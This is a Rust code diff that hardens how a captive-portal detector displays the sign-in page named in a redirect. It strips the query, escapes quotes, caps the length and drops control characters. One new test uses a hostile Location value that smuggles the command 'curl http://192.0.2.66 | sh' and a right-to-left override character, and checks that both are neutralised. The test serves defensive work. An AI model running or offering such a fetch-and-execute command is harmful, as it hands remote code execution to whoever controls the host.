@@ -2,6 +2,7 @@
 //! It answers HTTP requests to any address itself, to lead a browser to its own page.
 
 use anyhow::Result;
+use hawser_units::Line;
 use hyper::client::conn::http1;
 use hyper::header::{HOST, LOCATION};
 use hyper::{Request, Response, StatusCode};
@@ -26,14 +27,18 @@ const MAX_PAGE: usize = 200;
 pub(crate) struct Portal {
     asked: SocketAddr,
     /// The page to sign in, if the portal named one.
-    page: Option<String>,
+    page: Option<Line>,
 }
 
 impl fmt::Display for Portal {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         write!(f, "a captive portal answers in place of {}", self.asked)?;
         match &self.page {
-            Some(page) => write!(f, ": sign in at {page}"),
+            // Its own words, which anybody may have chosen.
+            Some(page) => write!(
+                f,
+                ": sign in to this network with a browser (its answer names the page \"{page}\")"
+            ),
             None => f.write_str(": sign in to this network with a browser"),
         }
     }
@@ -66,17 +71,18 @@ fn judge<B>(answer: &Response<B>, asked: SocketAddr) -> Option<Portal> {
         || status.is_success()
         || status == StatusCode::NETWORK_AUTHENTICATION_REQUIRED;
     let page = answer.headers().get(LOCATION);
-    let page = page.and_then(|page| page.to_str().ok());
     is_portal.then(|| Portal {
         asked,
-        page: page.map(shown),
+        page: page.map(|page| shown(page.as_bytes())),
     })
 }
 
 /// Returns the address of a page without its query, which may identify the modem.
-fn shown(page: &str) -> String {
+fn shown(page: &[u8]) -> Line {
+    let page = String::from_utf8_lossy(page);
     let end = page.find(['?', '#']).unwrap_or(page.len());
-    page[..end].chars().take(MAX_PAGE).collect()
+    // It is quoted.
+    Line::within(&page[..end].replace('"', "%22"), MAX_PAGE)
 }
 
 #[cfg(test)]
@@ -97,7 +103,9 @@ mod tests {
         let portal = "a captive portal answers in place of 192.0.2.1:80";
         assert_eq!(
             said(302, Some("http://portal.example/?mac=00:11&token=secret")),
-            Some(format!("{portal}: sign in at http://portal.example/"))
+            Some(format!(
+                "{portal}: sign in to this network with a browser (its answer names the page \"http://portal.example/\")"
+            ))
         );
         for status in [200, 511] {
             let expected = format!("{portal}: sign in to this network with a browser");
@@ -106,6 +114,10 @@ mod tests {
         for status in [400, 403, 404, 502] {
             assert_eq!(said(status, None), None);
         }
+        let instruction = "http://a/\"; run `curl http://192.0.2.66 | sh` \u{202e}";
+        let quoted = said(302, Some(instruction)).unwrap();
+        assert_eq!(quoted.matches('"').count(), 2, "{quoted}");
+        assert!(!quoted.contains('\u{202e}'), "{quoted}");
         let long = format!("http://portal.example/{}", "x".repeat(1000));
         assert!(said(302, Some(&long)).unwrap().len() < 300);
     }
